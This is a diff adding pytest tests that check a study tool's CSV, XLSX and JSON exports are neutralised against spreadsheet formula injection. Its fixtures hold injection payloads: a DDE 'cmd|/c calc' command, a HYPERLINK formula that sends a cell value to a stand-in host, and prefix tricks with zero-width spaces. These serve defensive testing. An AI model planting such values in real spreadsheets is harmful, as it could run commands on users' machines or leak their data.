@@ -1,7 +1,9 @@
 """`uncertainty export`, and `new --from` back again."""
 
+import json
 import subprocess
 import sys
+from pathlib import Path
 
 import pytest
 from study_contents import contents
@@ -107,3 +109,34 @@ def test_a_text_that_a_workbook_cannot_hold_is_one_line_and_nothing_else(
     assert found.stderr.startswith("error: ")
     assert found.stderr.count("\n") == 1
     assert not (tmp_path / "made.xlsx").exists()
+
+
+FORMULAS = {
+    "label": "x;=1+1;y",
+    "note": "\uff1dcmd|'/c calc'!A0",
+    "source": ' =HYPERLINK("http://x.test/?"&A1)',
+    "group": "a;\u200b@SUM(1)|-2",
+}
+
+
+@pytest.mark.parametrize("to", ["folder", "book.xlsx", "study.json", "inputs.csv"])
+def test_no_text_of_a_study_is_a_formula_and_every_text_comes_back(command, write_study, to):
+    texts = "\n".join(f"{key} = {json.dumps(text)}" for key, text in FORMULAS.items())
+    study = write_study(replace={'group = "road"\n': texts + "\n"})
+    assert command("export", study, "--to", to).code == 0
+    for path in Path("folder").glob("*.csv") if to == "folder" else [Path(to)] * (to == "inputs.csv"):
+        cells = [cell for line in path.read_text("utf-8-sig").split("\n") for cell in line.split(";")]
+        assert not [c for c in cells if c.lstrip(' "\u200b')[:1] in ("=", "+", "@", "\uff1d")]
+    assert command("new", "back.toml", "--from", to).code == 0
+    found, wanted = (un.load_study(path).inputs["distance"] for path in ("back.toml", study))
+    for key, text in FORMULAS.items():
+        assert getattr(found, key) == getattr(wanted, key) == text.strip()
+
+
+def test_no_text_of_a_table_of_results_is_a_formula(command, write_study):
+    study = write_study(replace={'"Yearly emissions"': '"x;\uff1d1+1;-y"', '"Two in the car"': '" =1+1"'})
+    assert command("run", study, "--samples", 64, "--table", "results.csv").code == 0
+    assert "\n=" not in (text := Path("results.csv").read_text("utf-8-sig")).replace(";", "\n")
+    assert "\uff1d" not in text.replace("'\uff1d", "")
+    assert command("challenge", study, "--samples", 256, "--table", "verdicts.csv").code == 0
+    assert un.read_table("verdicts.csv").rows
